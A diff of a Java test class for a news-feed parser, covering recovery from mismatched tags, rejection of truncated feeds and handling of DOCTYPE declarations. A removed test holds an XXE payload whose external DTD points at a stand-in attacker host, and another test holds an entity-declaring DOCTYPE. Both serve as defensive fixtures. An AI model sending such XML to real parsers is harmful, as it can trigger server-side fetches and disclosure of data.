@@ -36,11 +36,20 @@ class RejectedInputTest {
     }
 
     @Test
-    void mismatchedTagsAreMalformed() {
-        RejectedDocumentException e = rejection("feed-18", "application/atom+xml",
-                "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>x</entry></feed>");
+    void mismatchedTagsAreRecoveredAndReportedAsWarnings() {
+        ParsedDocument document = parse(input("feed-18", "application/atom+xml",
+                "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>x</entry></feed>"));
+        assertThat(document.articles()).singleElement().satisfies(article -> assertThat(article.getHeadline()).isEqualTo("x"));
+        assertThat(document.warnings()).singleElement().asString().contains("<title>", "closed by </entry>", "line 1");
+    }
+
+    @Test
+    void aDocumentThatNeverClosesItsRootIsCutOff() {
+        RejectedDocumentException e = rejection("feed-20", "application/rss+xml",
+                "<rss version=\"2.0\"><channel><item><title>Whole</title></item>\n<item><title>Half</title>");
         assertThat(e.reason()).isEqualTo(Reason.MALFORMED);
-        assertThat(e.getMessage()).contains("feed-18", "application/atom+xml", "not well-formed XML");
+        assertThat(e.getMessage()).contains("feed-20", "ends inside <item> (line 2) in <channel> (line 1) in <rss> (line 1)",
+                "cut off");
     }
 
     @Test
@@ -104,13 +113,15 @@ class RejectedInputTest {
     }
 
     @Test
-    void doctypeHiddenBehindADeclaredHtmlTypeIsStillRefusedForFeeds() {
-        String xxe = "<!DOCTYPE rss SYSTEM \"http://attacker.example/evil.dtd\"><rss version=\"2.0\"><channel><item><title>t</title></item></channel></rss>";
-        assertThat(rejection("sneaky", "text/html", xxe).reason()).isEqualTo(Reason.UNSAFE_XML);
+    void anExternalDtdIsNeverReadAndTheFeedStillIs() {
+        String netscape = "<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" "
+                + "\"http://127.0.0.1:1/rss-0.91.dtd\"><rss version=\"0.91\"><channel><item><title>Caf&eacute; &amp; t</title>"
+                + "</item></channel></rss>";
+        assertThat(Fixtures.single("text/html", netscape).getHeadline()).isEqualTo("Café & t");
     }
 
     @Test
-    void romeRefusesADoctypeEvenWhenOurPrologScanIsBypassedByForcingTheFormat() {
+    void aDoctypeDeclaringEntitiesIsRefusedEvenWhenTheFormatIsForced() {
         String xxe = "<!-- c --><!DOCTYPE rss [<!ENTITY x \"y\">]><rss version=\"2.0\"><channel><item><title>&x;</title></item></channel></rss>";
         RejectedDocumentException e = rejection(input("forced", null, null, xxe.getBytes(StandardCharsets.UTF_8)).withForcedFormat(InputFormat.RSS));
         assertThat(e.reason()).isEqualTo(Reason.UNSAFE_XML);
